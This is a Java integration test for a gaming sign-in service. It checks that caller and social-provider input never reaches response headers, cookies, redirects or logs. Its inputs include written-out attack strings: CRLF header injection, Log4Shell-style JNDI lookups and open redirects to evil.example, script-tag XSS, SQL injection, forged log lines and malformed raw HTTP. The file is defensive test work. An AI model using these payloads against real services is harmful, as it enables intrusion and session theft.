package gaming.signin;

import static gaming.signin.Attack.assertMessage;
import static gaming.signin.Attack.assertSuccess;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import sandbox.Confidential;
import sandbox.social.Person;
import world.Browser;
import world.Guest;
import world.Rows;
import world.ServiceLog;
import world.World;

/** No text of a caller or a provider reaches a header, a cookie, an address or the log. */
@ExtendWith(World.class)
class InjectionIT {
    private final String mark = "evil-" + UUID.randomUUID();
    private final Browser browser = new Browser(World.publicUrl());

    @BeforeEach
    void marked() {
        Confidential.keep(mark);
    }

    @AfterEach
    void nothingIsLogged() {
        try (Stream<String> lines = ServiceLog.lines()) {
            assertThat(lines.filter(line -> line.contains(mark))).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%s\r\nSet-Cookie: accessToken=%s", "%s\nX-Injected: %s",
                "%s\r%s", "%s; Path=/; Domain=evil.example; %s",
                "\"%s\", %s", "%s\u0000%s",
                "%s\u2028\u0085%s", "%s%%0d%%0aSet-Cookie:%%20%s",
                "&redirect_uri=https://evil.example/%s&state=%s", "#%s\"><script>%s</script>",
                "%s${jndi:ldap://evil.example/%s}{0}%%n%%s", "' or 1=1 -- %s%s",
            })
    void noInputOfAFlowReachesAHeaderACookieOrTheAddressOfTheProvider(String form) {
        String text = form.formatted(mark, mark);
        var input = new LinkedHashMap<String, Object>();
        for (String field : List.of("fingerprint", "referrerUserId", "referrerUsername", "promoCode")) {
            input.put(field, text);
        }

        JsonNode begun = browser.register("GOOGLE", input);
        assertClean(begun.path("url").asText());
        JsonNode refused = browser.register("GOOGLE", Map.of("redirectPath", "//" + text));
        assertClean(refused.toString());
        browser.verify(text, text);
        assertClean("");
        browser.verify(begun.path("state").asText(), text);
        assertClean("");
        browser.verifyMfa(text);
        assertClean("");
    }

    @Test
    void endlessTextsAreIgnored() {
        String endless = mark.repeat(5_000);
        for (String field : List.of("fingerprint", "referrerUserId", "referrerUsername", "promoCode")) {
            JsonNode begun = browser.register("GOOGLE", Map.of(field, endless));
            assertSuccess(browser.finish(begun, World.google(), Guest.somebody()));
        }
        assertMessage(browser.register("GOOGLE", Map.of("redirectPath", "/" + endless)), "INVALID_REDIRECT_PATH");
        assertMessage(browser.verify(endless, endless), "INVALID_STATE");
    }

    @Test
    void aRedirectPathComesBackInTheBodyOnly() {
        String path = "/" + mark + "?a=b;c=\"d\"&e='f'<script>#g,h";
        JsonNode begun = browser.register("GOOGLE", Map.of("redirectPath", path));
        assertClean(begun.path("url").asText());

        JsonNode answer = browser.finish(begun, World.google(), Guest.somebody());

        assertThat(answer.path("redirectPath").asText()).isEqualTo(path);
        assertClean("");
    }

    /** The person chooses the name, the address and the picture. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "%s\r\n2026-01-01 00:00:00.000 INFO forged", "%s\u0000\u001b[2J",
                "%s<script>alert(1)</script>", "%s\u202e\u2066",
            })
    void noWordOfAProviderReachesAHeaderOrTheLog(String form) {
        String text = form.formatted(mark);
        for (String type : List.of("GOOGLE", "FACEBOOK")) {
            var person =
                    new Person(UUID.randomUUID().toString(), text, text + "@example.com", true, "javascript:" + text);
            var provider = type.equals("GOOGLE") ? World.google() : World.facebook();
            JsonNode answer = new Browser(World.publicUrl()).registered(type, provider, person);
            assertThat(answer.path("status").asText()).isIn("SUCCESS", "ERROR");
            assertThat(answer.at("/user/username").asText()).doesNotContain("<", "\r", "\n", "\u0000");
            browser.registered(type, provider, person);
            assertClean("");
            assertThat(Rows.here().count("user where avatar_url like 'javascript:%'"))
                    .isZero();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"accessToken", "refreshToken", "mfaToken", "socialState"})
    void twoCookiesOfOneNameCountAsNone(String name) {
        Guest guest = Guest.registers();
        JsonNode begun = guest.browser().login("GOOGLE");
        guest.browser().plant("mfaToken", "A".repeat(43));
        String value = guest.browser().cookie(name).orElseThrow();
        for (String both :
                List.of(name + "=" + mark + "; " + name + "=" + value, name + "=" + value + "; " + name + "=" + mark)) {
            var carrier = new Browser(World.publicUrl(), "Cookie", both);
            assertThat(Guest.isSignedIn(carrier)).isFalse();
            assertMessage(carrier.refresh(), "SESSION_EXPIRED");
            assertMessage(carrier.verifyMfa("271828"), "INVALID_CODE");
            assertMessage(carrier.verify(begun.path("state").asText(), "code"), "INVALID_STATE");
        }
    }

    /** Sent as bytes, because HTTP clients refuse to. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Cookie: accessToken=%s\u0000", "Cookie: accessToken=%s\r\n folded=%s",
                "Cookie: accessToken=%s\rX-Injected: %s", "Cookie: accessToken=%s\nX-Injected: %s",
                "Cookie : accessToken=%s", "Cookie: accessToken=%s\u00ff\u0080",
                "Coo\u0000kie: %s", "%s",
                "X-Forwarded-For: %s\u0007, 1.2.3.4", "Origin: https://%s.example",
                "User-Agent: %s${jndi:ldap://evil.example/a}", "Content-Type: application/json; charset=%s",
                "Accept: %s",
            })
    void noHeaderOfARequestReachesAnAnswerOrTheLog(String header) throws IOException {
        String answer =
                exchange(header.formatted(mark, mark), "{\"query\":\"mutation { refreshSession { message } }\"}");

        assertThat(answer).startsWith("HTTP/1.1 ").doesNotContain(mark, "X-Injected", " 500 ");
    }

    private void assertClean(String text) {
        assertThat(text).doesNotContain(mark, "evil.example");
        assertThat(browser.latest().status()).isEqualTo(200);
        browser.latest()
                .headers()
                .map()
                .forEach(
                        (name, values) -> assertThat(name + values).doesNotContain(mark, "evil.example", "X-Injected"));
    }

    private static String exchange(String header, String body) throws IOException {
        String type = header.startsWith("Content-Type") ? "" : "Content-Type: application/json\r\n";
        return Bytes.exchange("POST /graphql HTTP/1.1\r\nHost: localhost\r\n" + type + header + "\r\nContent-Length: "
                + body.length() + "\r\nConnection: close\r\n\r\n" + body);
    }

    /** Requests that no HTTP client sends. */
    private static final class Bytes {
        private static final Pattern LENGTH = Pattern.compile("(?i)\r\nContent-Length: (\\d+)\r\n");

        private Bytes() {}

        /** The first answer, or the bytes before the end of the connection. */
        static String exchange(String request) throws IOException {
            URI url = World.publicUrl();
            var answer = new StringBuilder();
            try (var socket = new Socket(url.getHost(), url.getPort())) {
                socket.setSoTimeout(10_000);
                socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
                InputStream in = socket.getInputStream();
                for (int next = in.read(); next >= 0; next = in.read()) {
                    answer.append((char) next);
                    if (answer.toString().endsWith("\r\n\r\n")) {
                        Matcher length = LENGTH.matcher(answer);
                        int left = length.find() ? Integer.parseInt(length.group(1)) : 0;
                        answer.append(new String(in.readNBytes(left), StandardCharsets.ISO_8859_1));
                        break;
                    }
                }
            } catch (SocketException closed) {
                // The service need not read the whole request
            }
            return answer.toString();
        }
    }
}
